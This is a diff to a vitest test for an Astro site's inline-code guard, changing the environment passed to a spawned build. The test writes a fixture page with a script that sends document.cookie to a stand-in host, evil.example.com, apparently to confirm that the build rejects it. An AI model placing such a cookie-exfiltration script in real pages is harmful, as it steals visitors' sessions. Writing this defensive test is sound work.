@@ -10,7 +10,7 @@ import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, describe, expect, it } from 'vitest';
 import { findInlineCode } from '../../src/integrations/inline-code-guard.ts';
-import { ROOT } from '../support/server.ts';
+import { childEnv, ROOT } from '../support/server.ts';
 
 const scratch = mkdtempSync(join(tmpdir(), 'inline-code-'));
 afterAll(() => rmSync(scratch, { recursive: true, force: true }));
@@ -35,7 +35,7 @@ describe('inline code in pages', () => {
     for (const entry of ['src', 'content', 'public', 'spec', 'astro.config.mjs', 'package.json', 'tsconfig.json', 'redocly.yaml']) cpSync(join(ROOT, entry), join(project, entry), { recursive: true });
     symlinkSync(join(ROOT, 'node_modules'), join(project, 'node_modules'));
     writeFileSync(join(project, 'content/offer.mdx'), '---\ntitle: Spring offer\ndescription: A page an editor added, with a script pasted from somewhere.\nupdated: 2026-11-22\n---\n\nTen percent off.\n\n<script>{"fetch(\'https://evil.example.com/?c=\' + document.cookie)"}</script>\n');
-    const build = await promisify(execFile)('npm', ['run', '--silent', 'build'], { cwd: project, env: { ...process.env, ASTRO_TELEMETRY_DISABLED: '1' } }).then(
+    const build = await promisify(execFile)('npm', ['run', '--silent', 'build'], { cwd: project, env: { ...childEnv(), ASTRO_TELEMETRY_DISABLED: '1' } }).then(
       () => ({ failed: false, output: '' }),
       (err: { stdout: string; stderr: string }) => ({ failed: true, output: `${err.stdout}${err.stderr}` }),
     );
